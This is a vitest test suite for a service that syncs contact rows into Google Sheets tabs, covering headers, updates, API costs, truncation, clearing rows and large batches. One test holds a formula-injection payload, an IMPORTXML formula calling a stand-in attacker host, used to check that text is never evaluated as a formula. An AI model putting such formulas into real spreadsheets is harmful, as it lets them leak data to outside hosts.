import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { HandClock } from '../doubles/hand-clock.ts';
import { atLength } from '../stand/runs.ts';
import { BOOK, contact, id, line, row, type Stand, startStand } from './stand.ts';

const HEADER = ['ID', 'Name', 'Phone'];

describe('rows reach their tab', () => {
  let stand: Stand;
  beforeEach(async () => {
    stand = await startStand();
  });
  afterEach(() => stand.close());

  it('an empty tab gets a bold, frozen header in the order of the mapping, and its rows below', async () => {
    stand.put(contact(1), contact(2));
    expect(await stand.flush()).toEqual({ written: 2, remaining: 0 });
    expect(stand.values()).toEqual([HEADER, line(1), line(2)]);
    const [sheet] = stand.sandbox.truth.spreadsheet(BOOK)['sheets'] as Record<string, never>[];
    expect(sheet?.['properties']).toMatchObject({ gridProperties: { frozenRowCount: 1 } });
    expect(sheet).toMatchObject({
      data: [
        {
          rowData: [
            { values: [{ userEnteredFormat: { textFormat: { bold: true } } }, {}, {}] },
            {
              values: expect.not.arrayContaining([
                expect.objectContaining({ userEnteredFormat: expect.anything() }),
              ]),
            },
            expect.anything(),
          ],
        },
      ],
    });
  });

  it('a row that is there is written in place, and the same row again changes nothing', async () => {
    stand.put(contact(1), contact(2), contact(3));
    await stand.flush();
    stand.put(contact(2, 'Changed'));
    await stand.flush();
    stand.put(contact(2, 'Changed'));
    await stand.flush();
    expect(stand.values()).toEqual([HEADER, line(1), line(2, 'Changed'), line(3)]);
  });

  it('a flush costs one read and one write, however many rows and tabs', async () => {
    stand.put(...Array.from({ length: 300 }, (_, i) => contact(i)));
    await stand.flush();
    stand.sandbox.resetCounts();
    stand.put(...Array.from({ length: 350 }, (_, i) => contact(i, `Other ${i}`)));
    await stand.flush();
    expect(stand.sandbox.stats().callsByMethod).toEqual({
      'spreadsheets.values.batchGetByDataFilter': 1,
      'spreadsheets.batchUpdate': 1,
    });
    expect(stand.values()).toHaveLength(351);
  });

  it('pays for reads and writes from their own budgets', async () => {
    stand.put(contact(1));
    await stand.flush();
    stand.put(contact(2));
    await stand.flush();
    const [write] = Object.entries(stand.budget.spent).filter(([name]) =>
      name.startsWith('google-sheets-write:'),
    );
    const [read] = Object.entries(stand.budget.spent).filter(([name]) =>
      name.startsWith('google-sheets-read:'),
    );
    // The first time: which tabs, their header rows, and is it really empty; then one a flush.
    expect([write?.[1], read?.[1]]).toEqual([2, 3 + 1]);
  });

  it('keeps numbers, booleans and text what they are; text is never a formula, a date or a number (case 64)', async () => {
    const evil = '=IMPORTXML("http://evil.example","//a")';
    stand.put(
      row(1, { Name: evil, Phone: '+41 78 000 00 01' }),
      row(2, { Name: '001', Phone: '2026-01-02' }),
      row(3, { Name: 12.5, Phone: true }),
      row(4, { Name: "'quoted", Phone: null }),
    );
    await stand.flush();
    expect(stand.values().slice(1)).toEqual([
      [id(1), evil, '+41 78 000 00 01'],
      [id(2), '001', '2026-01-02'],
      [id(3), 12.5, true],
      [id(4), "'quoted"],
    ]);
    expect(stand.sandbox.truth.formulas(BOOK, 'Contacts')).toEqual(stand.values());
    expect(stand.sandbox.truth.spreadsheet(BOOK)).not.toMatchObject({ formulaValue: expect.anything() });
  });

  it('text beyond 50,000 characters is cut and says so', async () => {
    stand.put(row(1, { Name: 'a'.repeat(60_000), Phone: '1' }), contact(2));
    expect((await stand.flush()).written).toBe(2);
    const name = String(stand.values()[1]?.[1]);
    expect([name.length, name.slice(-7)]).toEqual([50_000, '… [cut]'.slice(-7)]);
  });

  it('half a surrogate pair does not stop the others', async () => {
    stand.put(row(1, { Name: 'broken \uD83D', Phone: '1' }), contact(2));
    await stand.flush();
    expect(stand.values().slice(1)).toEqual([[id(1), 'broken \uFFFD', '1'], line(2)]);
  });

  it('a row that is taken away loses its cells and its key; what people wrote beside it stays', async () => {
    stand.put(contact(1), contact(2), contact(3));
    await stand.flush();
    stand.sandbox.staff.sheets.setCell({ spreadsheetId: BOOK, tab: 'Contacts', cell: 'E3', value: 'VIP' });
    stand.put(row(2, undefined));
    expect(await stand.flush()).toEqual({ written: 1, remaining: 0 });
    expect(stand.values()).toEqual([HEADER, line(1), ['', '', '', '', 'VIP'], line(3)]);
    expect(stand.outbox.link(`contact/${id(2)}`, 'contacts')?.hash).toBe('cleared');
  });

  it('taking away what is not there writes nothing', async () => {
    stand.put(contact(1));
    await stand.flush();
    stand.sandbox.resetCounts();
    stand.put(row(7, undefined));
    expect(await stand.flush()).toEqual({ written: 1, remaining: 0 });
    expect(stand.sandbox.stats().callsByMethod).toEqual({ 'spreadsheets.values.batchGetByDataFilter': 1 });
  });

  it('a cleared row comes back below the others when the object does', async () => {
    stand.put(contact(1), contact(2));
    await stand.flush();
    stand.put(row(1, undefined));
    await stand.flush();
    stand.put(contact(1));
    await stand.flush();
    expect(stand.values()).toEqual([HEADER, [], line(2), line(1)]);
  });

  it('totals and notes below the table are pushed down, also when they stand in the key column', async () => {
    stand.put(contact(1));
    await stand.flush();
    stand.sandbox.staff.sheets.setRow({
      spreadsheetId: BOOK,
      tab: 'Contacts',
      row: 3,
      values: ['Total', 'mine', 1],
    });
    stand.put(contact(2), contact(3));
    await stand.flush();
    expect(stand.values()).toEqual([HEADER, line(1), line(2), line(3), ['Total', 'mine', 1]]);
  });

  it('a full grid grows with its rows', async () => {
    await stand.close();
    stand = await startStand({
      tabs: [{ title: 'Contacts', rows: 3, columns: 3, values: [HEADER, line(1), line(2)] }],
    });
    stand.put(contact(3), contact(4));
    await stand.flush();
    expect(stand.values()).toEqual([HEADER, line(1), line(2), line(3), line(4)]);
  });

  it('a tab of one cell grows in both directions', async () => {
    await stand.close();
    stand = await startStand({ tabs: [{ title: 'Contacts', rows: 1, columns: 1 }] });
    stand.put(contact(1), contact(2));
    expect(await stand.flush()).toEqual({ written: 2, remaining: 0 });
    expect(stand.values()).toEqual([HEADER, line(1), line(2)]);
    const [sheet] = stand.sandbox.truth.spreadsheet(BOOK)['sheets'] as { data: { rowData: object[] }[] }[];
    const [header, ...rows] = sheet?.data[0]?.rowData.map((cells) => JSON.stringify(cells)) ?? [];
    expect(header).toContain('"bold":true');
    expect(rows.join()).not.toContain('"bold":true');
  });

  it('the lag is measured from when the change happened', async () => {
    const clock = new HandClock(Date.now());
    await stand.close();
    stand = await startStand({ parts: { clock } });
    stand.put({ ...contact(1), occurredAtMs: clock.now() - 5_000 }, contact(2));
    await stand.flush();
    expect(stand.meter.measured).toEqual([
      { name: 'slotbridge_lag_seconds', seconds: 5, labels: { mirror: 'contacts' } },
    ]);
  });

  it('a row that was replaced while it was written stays and is written next', async () => {
    stand.put(contact(1));
    await stand.flushWhile(() => stand.put(contact(1, 'Newer')));
    expect(await stand.waiting()).toEqual([id(1)]);
    await stand.flush();
    expect(stand.values()).toEqual([HEADER, line(1, 'Newer')]);
  });

  it('nothing is sent once the worker is stopping', async () => {
    stand.put(contact(1));
    const stopped = new AbortController();
    stopped.abort();
    await expect(stand.flushWith(stopped.signal)).rejects.toMatchObject({ code: 'stopped' });
    expect(stand.values()).toEqual([]);
  });

  atLength.test('20,000 rows go in flushes of 2,000, a thousand and more in a request', async () => {
    stand.put(...Array.from({ length: 20_000 }, (_, i) => contact(i)));
    let flushes = 0;
    for (let remaining = 1; remaining > 0; flushes += 1) ({ remaining } = await stand.flush());
    expect(flushes).toBe(10);
    expect(stand.sandbox.stats().callsByMethod['spreadsheets.batchUpdate']).toBe(10);
    expect(new Set(stand.values().map(([key]) => key)).size).toBe(20_001);
    expect(stand.values()).toHaveLength(20_001);
  });
});
